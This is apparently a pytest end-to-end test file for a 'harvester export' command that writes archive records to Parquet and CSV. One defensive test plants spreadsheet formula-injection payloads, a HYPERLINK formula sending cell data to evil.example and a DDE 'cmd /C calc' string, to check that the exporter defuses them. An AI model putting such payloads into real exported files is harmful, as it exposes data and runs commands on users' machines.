"""``harvester export`` on the dataset of real crawls of the replica: Parquet with the record's own types, CSV
that a spreadsheet reads as data (never as formulas), the long people table beside it, clear errors."""

from __future__ import annotations

import csv
import json

import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from tests.support.cli import harvester, read_jsonl
from tests.support.products import harvest

pytestmark = pytest.mark.e2e


@pytest.fixture(scope="session")
def harvested(tmp_path_factory):
    return harvest(tmp_path_factory.mktemp("products"))


def read_csv(path):
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


def test_parquet_keeps_dates_as_text_at_their_precision_and_people_as_structs(harvested, tmp_path):
    out = tmp_path / "mao.parquet"
    result = harvester("export", str(harvested.dataset), "--format", "parquet", "--out", str(out))
    assert result.code == 0, result.stderr
    assert result.stdout.strip() == f"harvester: export: 32 records from {harvested.dataset} -> {out} (32 rows)"
    table = pq.read_table(out)
    schema = table.schema
    assert schema.field("date").type == pa.string()
    assert schema.field("date_end").type == pa.string()
    assert schema.field("doc_number").type == pa.string()
    assert schema.field("node_id").type == pa.string()
    assert schema.field("position").type == pa.int64()
    assert schema.field("date_approximate").type == pa.bool_()
    people = schema.field("people").type
    assert pa.types.is_list(people)
    assert [f.name for f in people.value_type] == ["name", "id", "role", "as_written", "archive", "agrees"]
    assert pa.types.is_timestamp(schema.field("first_seen").type)
    assert schema.metadata[b"harvester.schema"] == b"urn:harvester:schema:dataset:1.3.0"
    records = read_jsonl(harvested.dataset)
    rows = table.to_pylist()
    # Every value comes back as the dataset has it; the timestamps as the same instants.
    for record, row in zip(records, rows, strict=True):
        for name in ("crawled_at", "first_seen", "last_seen"):
            row[name] = row[name].strftime("%Y-%m-%dT%H:%M:%SZ")
        for person, given in zip(row["people"], record["people"], strict=True):
            for name in ("archive", "agrees"):  # the archive's evidence (--details): a null column where absent
                if person[name] is None and name not in given:
                    del person[name]
        assert row == record
    precisions = {(r["date"], r["date_precision"]) for r in rows if r["date_precision"] in ("month", "year")}
    assert precisions
    assert all(len(d) == {"month": 7, "year": 4}[p] for d, p in precisions)


def test_parquet_of_a_run_file_has_no_dataset_dates(harvested, tmp_path):
    out = tmp_path / "run.parquet"
    run_file = harvested.run_file(harvested.older)
    assert harvester("export", str(run_file), "--format", "parquet", "--out", str(out)).code == 0
    table = pq.read_table(out)
    assert "first_seen" not in table.schema.names
    assert table.num_rows == 11
    assert table.schema.metadata[b"harvester.schema"] == b"urn:harvester:schema:record:1.3.0"


def test_csv_is_flat_with_lists_joined_and_a_long_people_table_beside_it(harvested, tmp_path):
    out = tmp_path / "mao.csv"
    result = harvester("export", str(harvested.dataset), "--format", "csv", "--out", str(out))
    assert result.code == 0, result.stderr
    records = read_jsonl(harvested.dataset)
    rows = read_csv(out)
    assert len(rows) == len(records)
    assert not out.read_bytes().startswith(b"\xef\xbb\xbf")
    by_id = {r["id"]: r for r in rows}
    for record in records:
        row = by_id[record["id"]]
        assert row["date"] == (record["date"] or "")
        assert row["date_approximate"] == str(record["date_approximate"]).lower()
        assert row["people"] == " | ".join(f"{p['name']} ({p['role']})" for p in record["people"])
        assert row["people_ids"].split(" | ") == [p["id"] or "" for p in record["people"]] or not record["people"]
        assert row["senders"] == " | ".join(p["name"] for p in record["people"] if p["role"] == "sender")
    mentions = read_csv(tmp_path / "mao.people.csv")
    assert len(mentions) == sum(len(r["people"]) for r in records) > 0
    expected = [
        {"record_id": r["id"], "order": str(i), "role": p["role"], "name": p["name"], "id": p["id"] or "",
         "as_written": p["as_written"]}
        for r in records for i, p in enumerate(r["people"], start=1)
    ]  # fmt: skip
    assert mentions == expected
    organisations = read_csv(tmp_path / "mao.organisations.csv")
    assert len(organisations) == sum(len(r["organisations"]) for r in records)
    # an unresolved name ("Soviet Embassy in Beijing"): an empty id, not "None"
    assert any(m["id"] == "" for m in organisations)
    assert not any(m["id"] == "None" for m in mentions + organisations)


def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_defused(harvested, tmp_path):
    lines = read_jsonl(harvested.dataset)
    lines[0]["title"] = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    lines[1]["summary"] = "+1 cmd|' /C calc'!A0"
    lines[2]["doc_number"] = "-12"
    lines[3]["people"][0]["as_written"] = "@SUM(1+1)"
    dataset = tmp_path / "dataset.jsonl"
    dataset.write_text("".join(json.dumps(line) + "\n" for line in lines), encoding="utf-8")
    out = tmp_path / "out.csv"
    assert harvester("export", str(dataset), "--format", "csv", "--out", str(out), "--bom").code == 0
    assert out.read_bytes().startswith(b"\xef\xbb\xbf")
    with out.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert rows[0]["title"] == "'" + lines[0]["title"]
    assert rows[1]["summary"] == "'+1 cmd|' /C calc'!A0"
    assert rows[2]["doc_number"] == "'-12"
    assert rows[4]["title"] == lines[4]["title"]  # ordinary text is left alone
    with (tmp_path / "out.people.csv").open(encoding="utf-8-sig", newline="") as handle:
        mentions = [m for m in csv.DictReader(handle) if m["record_id"] == lines[3]["id"]]
    assert mentions[0]["as_written"] == "'@SUM(1+1)"
    cells = [cell for row in rows for cell in row.values()]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")]


def test_export_defaults_to_a_file_beside_the_dataset(harvested, tmp_path):
    dataset = tmp_path / "wilson" / "dataset.jsonl"
    dataset.parent.mkdir()
    dataset.write_bytes(harvested.dataset.read_bytes())
    assert harvester("export", str(dataset), "--format", "parquet").code == 0
    assert pq.read_table(dataset.with_suffix(".parquet")).num_rows == 32


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["missing.jsonl", "--format", "csv"], "missing.jsonl: no such file"),
        (["{dataset}", "--format", "parquet", "--bom"], "--bom is for CSV"),
        (["{dataset}", "--format", "csv", "--out", "{dataset}"], "is the input file"),
        (["{dataset}", "--format", "xlsx"], "invalid choice: 'xlsx'"),
        (["{broken}", "--format", "csv"], "line 2 is not a harvester record: $.date_precision"),
        (["{dir}", "--format", "csv"], "is a directory"),
    ],
)
def test_bad_input_is_one_line_and_exit_2(harvested, tmp_path, args, message):
    lines = harvested.dataset.read_text(encoding="utf-8").splitlines()
    second = json.loads(lines[1])
    second["date_precision"] = "decade"
    broken = tmp_path / "broken.jsonl"
    broken.write_text(f"{lines[0]}\n{json.dumps(second)}\n", encoding="utf-8")
    values = {"dataset": str(harvested.dataset), "broken": str(broken), "dir": str(tmp_path)}
    result = harvester("export", *(a.format(**values) for a in args), cwd=tmp_path)
    assert result.code == 2
    assert len(result.stderr.strip().splitlines()) == 1, result.stderr
    assert result.stderr.startswith("harvester: error: ")
    assert message in result.stderr
    assert not list(tmp_path.glob("*.csv"))
    assert not list(tmp_path.glob("*.parquet"))
